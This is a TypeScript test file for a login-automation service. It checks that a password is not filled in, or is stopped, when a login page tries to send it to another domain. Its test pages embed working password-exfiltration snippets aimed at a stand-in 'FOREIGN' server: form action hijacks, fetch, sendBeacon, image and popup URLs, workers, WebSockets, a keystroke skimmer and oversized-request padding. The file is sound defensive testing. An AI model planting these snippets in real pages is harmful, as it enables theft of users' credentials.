import { createServer } from "node:http";
import { describe, type TestContext } from "vitest";
import { mayEnterCredentials } from "../../../../src/service/managed-auth/allowed-domains.ts";
import type { LoginBrowser } from "../../../support/browser/login-browser.ts";
import { loginTest } from "../../../support/browser/login-browser.ts";
import { onLoopback } from "../../../support/servers/loopback.ts";
import { until } from "../../../support/until.ts";
import { logInOn } from "../support/login-flow.ts";

const test = loginTest();
const values = { username: "alice@shop.example", password: "Wonder-land 7!" };

/** Parts of a login page: attributes of its form and button, and a script; `FOREIGN` is the other website. */
interface Page {
  readonly form?: string;
  readonly button?: string;
  readonly script?: string;
}

/** Real servers of a website and of another one; everything that the other one has received. */
async function websites(page: Page): Promise<{ url: string; foreign: string; received: string[]; sent: string[] }> {
  const received: string[] = [];
  const sent: string[] = [];
  const collect = (list: string[], answer: (path: string) => [type: string, body: string, location?: string]) =>
    createServer((request, response) => {
      let body = "";
      request.setEncoding("latin1");
      request.on("data", (chunk: string) => {
        body += chunk;
      });
      request.on("end", () => {
        list.push(`${request.method} ${request.url} ${body}`);
        const [type, content, location] = answer(request.url ?? "");
        response.setHeader("access-control-allow-origin", "*").setHeader("content-type", type);
        response.writeHead(location === undefined ? 200 : 307, location === undefined ? {} : { location }).end(content);
      });
    });
  const other = await onLoopback(collect(received, () => ["text/html", "<h1>Welcome</h1><a href=/logout>Log out</a>"]));
  const {
    form = "",
    button = "",
    script = "",
  } = Object.fromEntries(Object.entries(page).map(([name, text]) => [name, text.replaceAll("FOREIGN", other.url)]));
  const html = `<!doctype html><title>Log in</title><form method="post" ${form}>
<label>User name <input name="username"></label><label>Password <input type="password" name="password"></label>
<button ${button}>Log in</button></form><script>${script}</script>`;
  const own = await onLoopback(
    collect(sent, (path) => {
      if (path === "/moved") return ["text/plain", "", `${other.url}/moved`];
      if (path === "/worker.js")
        return [
          "text/javascript",
          `onmessage = (e) => fetch("${other.url}/worker", { method: "POST", body: e.data });`,
        ];
      return ["text/html", html];
    }),
  );
  return { url: own.url.replace("127.0.0.1", "localhost"), foreign: other.url, received, sent };
}

function ownOnly(url: string) {
  const rules = { domain: "localhost", allowedDomains: ["localhost"], startUrl: url };
  return (address: string, from?: string): boolean => mayEnterCredentials(rules, address, from);
}

interface Attack extends Pick<TestContext, "expect"> {
  readonly browser: LoginBrowser;
}

/** Logs in on a page that leaks the password: the login fails with a message, and the password stays. */
async function keepsPassword(page: Page, message: RegExp, attack: Attack): Promise<void> {
  const { expect } = attack;
  const received = await failsToLogIn(page, message, attack);
  expect(received.filter((line) => decodeURIComponent(line).includes("Wonder"))).toEqual([]);
  expect(received.filter((line) => line.includes(Buffer.from(values.password).toString("base64")))).toEqual([]);
}

/** Lines of what the other website has received. */
async function failsToLogIn(page: Page, message: RegExp, { browser, expect }: Attack): Promise<readonly string[]> {
  const { url, received } = await websites(page);
  const run = logInOn(await browser.page(), url, { values, isAllowed: ownOnly(url) });
  await expect(run).rejects.toMatchObject({ kind: "domain_not_allowed", message: expect.stringMatching(message) });
  await expect(run).rejects.not.toMatchObject({ message: expect.stringContaining("Wonder") });
  return received;
}

const onSubmit = (code: string): Page => ({
  script: `const form = document.forms[0], value = () => form.elements.password.value;
form.addEventListener("submit", (event) => { ${code} });`,
});

describe("a password does not get to a domain that is not allowed", () => {
  test.for<[string, Page]>([
    ["the action of its form", { form: `action="FOREIGN/in"` }],
    ["the formaction of its button", { button: `formaction="FOREIGN/in"` }],
    [
      "an action that a control named action hides",
      {
        form: `action="FOREIGN/in"`,
        script: `document.forms[0].insertAdjacentHTML("beforeend", "<input type=hidden name=action value=/in>");`,
      },
    ],
  ])("a password that a page would send by %s is not filled", async ([, page], { browser, expect }) => {
    await keepsPassword(page, /^the login form is sent to "127\.0\.0\.1", .*nothing was filled\..* allowed_domains$/, {
      browser,
      expect,
    });
  });

  test.for<[string, Page]>([
    ["an action that a script sets when the form is sent", onSubmit(`form.action = "FOREIGN/in";`)],
    [
      "a copy of the form",
      onSubmit(
        `event.preventDefault(); const copy = form.cloneNode(true); copy.action = "FOREIGN/in"; copy.elements.password.value = value(); document.body.append(copy); HTMLFormElement.prototype.submit.call(copy);`,
      ),
    ],
    [
      "fetch with JSON",
      onSubmit(
        `event.preventDefault(); fetch("FOREIGN/in", { method: "POST", mode: "no-cors", body: JSON.stringify({ p: value() }) });`,
      ),
    ],
    [
      "fetch with base64",
      onSubmit(
        `event.preventDefault(); fetch("FOREIGN/in", { method: "POST", mode: "no-cors", body: "t=" + btoa("alice:" + value()) });`,
      ),
    ],
    ["a beacon with a blob", onSubmit(`navigator.sendBeacon("FOREIGN/in", new Blob([value()]));`)],
    [
      "the address of an image",
      onSubmit(`event.preventDefault(); new Image().src = "FOREIGN/" + encodeURIComponent(value());`),
    ],
    [
      "the address of a page",
      onSubmit(`event.preventDefault(); location = "FOREIGN/in?p=" + encodeURIComponent(value());`),
    ],
    ["a popup", onSubmit(`event.preventDefault(); open("FOREIGN/in?p=" + encodeURIComponent(value()));`)],
    ["a worker", onSubmit(`event.preventDefault(); new Worker("/worker.js").postMessage(value());`)],
    ["a redirect of the own website", { form: `action="/moved"` }],
  ])("a password that a page sends by %s is stopped with its request", async ([, page], { browser, expect }) => {
    await keepsPassword(page, /^the page tried to send a value to "127\.0\.0\.1", .*the request was stopped/, {
      browser,
      expect,
    });
  });

  test("a script that sends a password while it is typed gets no more than half of it", async ({ browser, expect }) => {
    const script = `addEventListener("input", ({ target: { type, value } }) =>
  type === "password" && fetch("FOREIGN/in", { method: "POST", mode: "no-cors", body: value }));`;
    const message = /^the page tried to send a value to "127\.0\.0\.1", .*the request was stopped/;
    const received = await failsToLogIn({ script }, message, { browser, expect });
    const half = values.password.slice(0, values.password.length / 2);
    expect(received.filter((line) => line.includes(half))).toEqual([]);
  });

  test("a WebSocket that sent a password fails the login, which says that the value is known there", async ({
    browser,
    expect,
  }) => {
    const page = onSubmit(
      `event.preventDefault(); new WebSocket("FOREIGN/in?p=".replace("http", "ws") + encodeURIComponent(value()));`,
    );
    await failsToLogIn(page, /^the page sent a value to "127\.0\.0\.1" by a WebSocket, .*change that value/, {
      browser,
      expect,
    });
  });
});

test("values reach the connection's own website, and the origins of all of them are recorded, without the values", async ({
  browser,
  expect,
}) => {
  const { url, sent, received } = await websites(onSubmit(`navigator.sendBeacon("FOREIGN/seen", "a login");`));
  const page = await browser.page();
  const run = logInOn(page, url, { values, isAllowed: ownOnly(url), answers: [] });
  run.catch(() => {});
  await until(() => sent.some((line) => line.startsWith("POST / username=")));
  expect(page.sentTo).toEqual([{ origin: url, fields: ["username", "password"] }]);
  await until(() => received.length > 0, { what: "the request of the other origin" });
  expect(received).toEqual(["POST /seen a login"]);
  await expect(run).rejects.toThrow("an unexpected question");
});

test("a request that is too long to be searched goes to the connection's own website alone", async ({
  browser,
  expect,
}) => {
  const { url, sent, received } = await websites(
    onSubmit(`const body = "x".repeat(2 ** 21) + value();
      fetch("FOREIGN/long", { method: "POST", mode: "no-cors", body }).catch(() => fetch("FOREIGN/short"));
      fetch("/long", { method: "POST", body }); event.preventDefault();`),
  );
  const run = logInOn(await browser.page(), url, { values, isAllowed: ownOnly(url), answers: [] });
  run.catch(() => {});
  await until(() => received.length > 0 && sent.some((line) => line.startsWith("POST /long xxx")));
  expect(received).toEqual(["GET /short "]);
  // Nothing was found, because nothing was searched.
  await expect(run).rejects.toThrow("an unexpected question");
});

test("origins beyond 50 that got values count as one", async ({ browser, expect }) => {
  const { url, received } = await websites(
    onSubmit(`event.preventDefault();
      for (let i = 0; i < 60; i++) {
        const to = "FOREIGN".replace("127.0.0.1", "h" + i + ".localhost");
        fetch(to, { method: "POST", mode: "no-cors", body: value() });
      }`),
  );
  const page = await browser.page();
  const run = logInOn(page, url, { values, isAllowed: () => true, answers: [] });
  run.catch(() => {});
  await until(() => received.length === 60);
  const origins = page.sentTo.map(({ origin }) => origin);
  expect(origins).toHaveLength(51);
  expect([origins[0], origins[50]]).toEqual([url, "other origins"]);
  await expect(run).rejects.toThrow();
});

test("a login that began at an encrypted page does not continue over an unencrypted connection", async ({
  browser,
  expect,
}) => {
  const { url } = await websites({});
  const plain = url.replace("localhost", "shop.localhost");
  const rules = { domain: "shop.localhost", allowedDomains: [], startUrl: "https://shop.localhost/" };
  const isAllowed = (address: string, from?: string) => mayEnterCredentials(rules, address, from);
  await expect(logInOn(await browser.page(), plain, { values, isAllowed })).rejects.toMatchObject({
    kind: "domain_not_allowed",
    message: `"${plain}" asks for a login, which is not encrypted, although the login page is; nothing was filled. Set login_url to an address of the website where the login stays encrypted`,
  });
});
